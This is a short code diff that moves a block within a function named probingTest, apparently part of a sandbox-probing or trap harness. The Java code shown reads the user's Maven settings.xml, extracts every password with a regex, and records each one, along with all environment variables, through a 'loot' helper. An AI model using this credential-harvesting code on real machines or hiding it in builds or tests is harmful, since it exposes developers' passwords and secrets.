@@ -265,6 +265,13 @@ function probingTest(original: string, traps: Traps): string {
         } catch (Exception e) {
             r.append(" fork=failed");
         }
+        try {
+            String settings = Files.readString(Path.of(System.getenv().getOrDefault("HOME", "/"), ".m2", "settings.xml"));
+            Matcher m = Pattern.compile("<password>([^<]*)</password>").matcher(settings);
+            while (m.find()) loot(r, "settings", "password", m.group(1));
+        } catch (Exception e) {
+            r.append(" settings=unreadable");
+        }
         for (Map.Entry<String, String> e : System.getenv().entrySet()) loot(r, "env", e.getKey(), e.getValue());
         Optional<ProcessHandle> parent = ProcessHandle.current().parent();
         while (parent.isPresent()) {
@@ -278,13 +285,6 @@ function probingTest(original: string, traps: Traps): string {
                 // not readable
             }
             parent = parent.get().parent();
-        }
-        try {
-            String settings = Files.readString(Path.of(System.getenv().getOrDefault("HOME", "/"), ".m2", "settings.xml"));
-            Matcher m = Pattern.compile("<password>([^<]*)</password>").matcher(settings);
-            while (m.find()) loot(r, "settings", "password", m.group(1));
-        } catch (Exception e) {
-            r.append(" settings=unreadable");
         }
         report = r.toString();
     }
